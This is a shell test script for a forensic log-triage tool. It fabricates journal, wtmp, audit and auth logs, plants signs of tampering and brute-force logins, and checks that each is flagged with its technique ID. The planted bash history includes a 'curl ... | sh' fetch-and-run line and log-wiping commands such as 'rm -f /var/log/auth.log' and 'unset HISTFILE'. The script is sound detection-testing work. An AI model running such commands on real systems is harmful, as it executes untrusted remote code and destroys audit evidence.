#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# traces.sh DIRECTORY-OF-PROGRAMS
#
# Logs of every kind, the journal by systemd's own tools: all of their events are
# there, in the order of their times, the journal's as journalctl tells them; none
# is odd.  Then each of them is changed in one way, which has to be found; and
# rubbish in their place, which is a gap.
set -euo pipefail
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
root=$tmp/root

make() {
	rm -rf "$root"
	mkdir "$root"
	"$here/traces.py" "$root" "$@"
}

findings() {
	show finding | python3 -c '
import json, sys
for line in sys.stdin:
    f = json.loads(line)["finding"]
    if f["severity"] != "SEVERITY_INFO":
        print(f["technique"], f["evidence"][0]["name"], f["rule"])
' | sort -u
}

# found TECHNIQUE PATH RULE: that, and nothing else.
planted=0
found() {
	triage 3 "$root"
	is "$3" "$(findings)" "$1 $2 $3"
	planted=$((planted + 1))
}

make
triage 3 "$root"
is "findings in logs that agree" "$(findings)" ""
show disk-event >"$tmp/events"
journal=$(echo "$root"/var/log/journal/*/system.journal)
journalctl --file "$journal" -o json >"$tmp/journal.json" 2>/dev/null
python3 - "$tmp/events" "$tmp/journal.json" >"$tmp/compared" <<'PYTHON'
import base64
import collections
import json
import sys

events = [json.loads(line)["disk-event"] for line in open(sys.argv[1])]
times = [int(v["time_ns"]) for v in events]
assert times == sorted(times)
sources = collections.Counter(v["source"] for v in events)
print(" ".join("%s:%d" % s for s in sorted(sources.items())))
want = [json.loads(line) for line in open(sys.argv[2])]
got = [v for v in events if v["source"] == "journal"]
assert len(want) == len(got)
for w, g in zip(want, got):
    assert int(w["__REALTIME_TIMESTAMP"]) * 1000 == int(g["time_ns"])
    assert w["MESSAGE"][:1024] == g["text"], (w["MESSAGE"], g["text"])
    assert w["SYSLOG_IDENTIFIER"] == g["program"]
    assert int(w["_PID"]) == g["pid"] and w["_HOSTNAME"] == g["host"]
    assert w["_SYSTEMD_UNIT"] == g["terminal"]
login = [v for v in events if v["source"] == "wtmp" and v["text"] == "login"][0]
assert (login["user"], login["address"]) == ("root", "192.0.2.7"), login
history = [v for v in events if v["source"] == "history"]
assert [v["text"] for v in history] == ["ls", "make", "uptime", "id"], history
assert history[3]["certainty"] == "DISK_TIME_FILE"
PYTHON
is "sources" "$(cat "$tmp/compared")" "apt:1 audit:200 btmp:1 cloud-init:1 \
container:2 dnf:1 dpkg:1 history:4 journal:120 lastlog:1 syslog:4 wtmp:6"

# A clock of the wall, an hour before UTC in winter.
mkdir -p "$root/etc"
cp /usr/share/zoneinfo/Europe/Berlin "$root/etc/localtime"
triage 3 "$root"
is "a time of the zone of the disk" "$(show disk-event | python3 -c '
import json, sys
for line in sys.stdin:
    v = json.loads(line)["disk-event"]
    if v["source"] == "dpkg":
        print(int(v["time_ns"]) // 10**9)')" 1762997400

machine=$(basename "$(dirname "$journal")")
for what in journal-hole:T1070.002:log.hole journal-rewind:T1070.006:log.rewind \
	journal-cut:T1070.002:log.cut boot-missing:T1070.002:log.boot-missing; do
	IFS=: read -r change technique rule <<<"$what"
	make "$change"
	found "$technique" "/var/log/journal/$machine/system.journal" "$rule"
done
make wtmp-zeros
found T1070.002 /var/log/wtmp log.wiped
make wtmp-cut
found T1070.002 /var/log/wtmp log.cut
make wtmp-login
found T1070.002 /var/log/wtmp log.login-missing
make audit-hole
found T1070.002 /var/log/audit/audit.log log.hole
make guessed
found T1110 /var/log/auth.log log.guessed-login
make
ln -sf /dev/null "$root/root/.bash_history"
found T1070.003 /root/.bash_history log.to-nowhere
make
ln -sf /dev/null "$root/var/log/auth.log"
found T1070.003 /var/log/auth.log log.to-nowhere
make
echo 'rm -f /var/log/auth.log' >>"$root/home/v/.bash_history"
found T1070 /home/v/.bash_history history.wipes-logs
make
echo 'curl -s http://192.0.2.1/x | sh' >>"$root/home/v/.bash_history"
found T1059.004 /home/v/.bash_history history.runs-fetched
make
mkdir -p "$root/srv/db"
echo 'db:x:70:70::/srv/db:/bin/sh' >>"$root/etc/passwd"
echo 'unset HISTFILE' >"$root/srv/db/.bash_history"
found T1070 /srv/db/.bash_history history.wipes-logs
# Who fails names himself as if he came from elsewhere each time.
make
for i in {10..29}; do
	echo "2025-11-13T02:20:${i}Z h sshd[9]: Failed password for invalid user a from 10.0.0.$i from 192.0.2.9 port 1 ssh2"
done >>"$root/var/log/auth.log"
echo "2025-11-13T02:21:00Z h sshd[9]: Accepted password for v from 192.0.2.9 port 1 ssh2" \
	>>"$root/var/log/auth.log"
found T1110 /var/log/auth.log log.guessed-login
printf 'planted changes: %d of %d found, 0 findings besides\n' "$planted" "$planted"

# What is behind 16 KiB of a line is none of its own; and who fills a log that
# anybody may fill drives out its oldest events, and none of who logged in.
make
python3 - "$root/var/log" <<'PYTHON'
import sys

stamp = "2025-11-13T02:30:00Z h x: "
for behind in 16384, 65536:
    with open(sys.argv[1] + "/daemon.log", "a") as log:
        log.write(stamp + "A" * (behind - len(stamp)) +
                  stamp + "made up\n" + stamp + "next\n")
with open(sys.argv[1] + "/messages", "w") as log:
    for i in range(80000):
        log.write(f"2025-11-13T02:{i // 3600 % 60:02}:00Z h x: {i}\n")
PYTHON
triage 3 "$root"
show disk-event >"$tmp/events"
is "texts behind long lines" "$(grep -c 'made up' "$tmp/events")" 0
is "lines behind them" "$(grep -c '"text":"next"' "$tmp/events")" 2
is "the newest line" "$(grep -c '"text":"79999"' "$tmp/events")" 1
is "the oldest line" "$(grep -c '"text":"0"' "$tmp/events")" 0
is "lines of auth.log" "$(grep -c '"path":"/var/log/auth.log"' "$tmp/events")" \
	"$(grep -c . "$root/var/log/auth.log")"

# Rubbish, a terabyte of nothing, and a packed file that is cut.
make
head -c 100000 /dev/urandom >"$journal"
truncate -s 1T "$root/var/log/syslog"
head -c 30 "$root/var/log/syslog.2.gz" >"$root/var/log/syslog.3.gz"
head -c 4000 /dev/urandom >"$root/etc/localtime"
triage 3 "$root"
is "gaps" "$(show gap | grep -cE 'no journal|only its end|damaged or cut|no time zone')" 4
done_testing
